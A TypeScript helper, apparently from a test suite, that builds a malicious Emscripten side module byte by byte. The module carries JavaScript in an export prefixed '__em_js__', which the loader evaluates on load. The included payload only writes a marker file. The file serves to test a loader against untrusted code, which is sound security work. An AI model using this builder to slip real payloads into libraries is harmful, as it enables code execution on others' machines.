/** WebAssembly's variable-length number. */
function leb(value: number): number[] {
  const bytes: number[] = []
  let rest = value
  do {
    bytes.push((rest & 0x7f) | (rest > 0x7f ? 0x80 : 0))
    rest >>>= 7
  } while (rest > 0)
  return bytes
}

const text = (value: string): number[] => [...leb(Buffer.byteLength(value)), ...Buffer.from(value)]
const section = (id: number, body: readonly number[]): number[] => [id, ...leb(body.length), ...body]

/**
 * A library as an attacker makes it, byte by byte: an Emscripten side module with nothing in it but a string that is
 * exported under the prefix `__em_js__`, which Emscripten's loader evaluates as JavaScript when it loads the module.
 */
export function evilLibrary(javaScript: string): Uint8Array {
  const string = [...Buffer.from(`(void)<::>{};${javaScript}\0`)]
  const dylink = section(0, [...text('dylink.0'), 1, ...leb(4), ...leb(string.length), 0, 0, 0])
  const memory = [...text('env'), ...text('memory'), 2, 0, 1]
  const base = [...text('env'), ...text('__memory_base'), 3, 0x7f, 0]
  const imports = section(2, [2, ...memory, ...base])
  const globals = section(6, [1, 0x7f, 0, 0x41, 0, 0x0b]) // where the string is: at the base
  const exported = section(7, [1, ...text('__em_js__attack'), 3, 1])
  const data = section(11, [1, 0, 0x23, 0, 0x0b, ...leb(string.length), ...string])
  return Uint8Array.from([0x00, 0x61, 0x73, 0x6d, 1, 0, 0, 0, ...dylink, ...imports, ...globals, ...exported, ...data])
}

/** JavaScript that leaves a file behind, as a sign that it ran with the rights of this process. */
export const leavesSign = (file: string): string => `process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(file)}, 'ran')`
